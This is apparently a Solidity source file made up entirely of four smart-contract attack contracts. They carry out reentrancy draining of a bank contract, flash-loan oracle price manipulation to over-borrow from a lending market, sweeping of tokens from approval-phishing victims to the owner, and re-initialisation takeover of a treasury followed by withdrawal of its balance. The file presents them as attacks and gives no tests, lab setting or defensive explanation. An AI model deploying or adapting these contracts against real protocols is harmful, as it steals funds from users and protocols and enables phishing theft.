// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

interface IBank {
    function deposit() external payable;
    function withdraw() external;
}

/// Drains EtherBank by re-entering withdraw() from receive().
contract ReentrancyAttacker {
    IBank public immutable bank;
    address payable public immutable owner;
    uint256 private rounds;

    constructor(address bank_) {
        bank = IBank(bank_);
        owner = payable(msg.sender);
    }

    function attack(uint256 maxRounds) external payable {
        rounds = maxRounds;
        bank.deposit{value: msg.value}();
        bank.withdraw();
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        if (rounds > 0 && address(bank).balance >= msg.value) {
            rounds -= 1;
            bank.withdraw();
        }
    }
}

interface IPool {
    function swapExactIn(address tokenIn, uint256 amountIn, uint256 minOut, address to) external returns (uint256);
}

interface ILending {
    function mint(uint256) external returns (uint256);
    function borrow(uint256) external returns (uint256);
}

interface IOracle {
    function getUnderlyingPrice(address) external view returns (uint256);
}

interface IFlashLender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

/// Flash-borrows the debt token, buys the collateral token on the pool (its spot price jumps),
/// deposits it at the inflated price, borrows more than it spent, repays the flash loan.
contract OracleAttacker {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(address lender, address pool, address lending, address oracle, address collateral,
                    address debt, uint256 loan) external {
        bytes memory data = abi.encode(pool, lending, oracle, collateral);
        IFlashLender(lender).flashLoan(address(this), debt, loan, data);
        IERC20(debt).transfer(owner, IERC20(debt).balanceOf(address(this)));
    }

    function onFlashLoan(address, address debt, uint256 amount, uint256 fee, bytes calldata data)
        external returns (bytes32)
    {
        (address pool, address lending, address oracle, address collateral) =
            abi.decode(data, (address, address, address, address));
        IERC20(debt).approve(pool, amount);
        uint256 bought = IPool(pool).swapExactIn(debt, amount, 0, address(this));
        uint256 price = IOracle(oracle).getUnderlyingPrice(collateral);
        IERC20(collateral).approve(lending, bought);
        ILending(lending).mint(bought);
        uint256 value = (bought * price) / 1e18;
        ILending(lending).borrow((value * 3) / 4 - 1);
        IERC20(debt).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// Sweeps the tokens of every victim who approved this contract (approval phishing).
contract Sweeper {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function claim(address token, address[] calldata victims) external {
        require(msg.sender == owner, "owner");
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 amount = IERC20(token).balanceOf(victims[i]);
            if (amount > 0) {
                IERC20(token).transferFrom(victims[i], owner, amount);
            }
        }
    }
}

interface ITreasury {
    function initialize(address) external;
    function withdraw(address payable, uint256) external;
}

/// Re-initialises the treasury with itself as owner and empties it, in one transaction.
contract Takeover {
    function attack(address treasury) external {
        ITreasury(treasury).initialize(address(this));
        ITreasury(treasury).withdraw(payable(msg.sender), treasury.balance);
    }
}
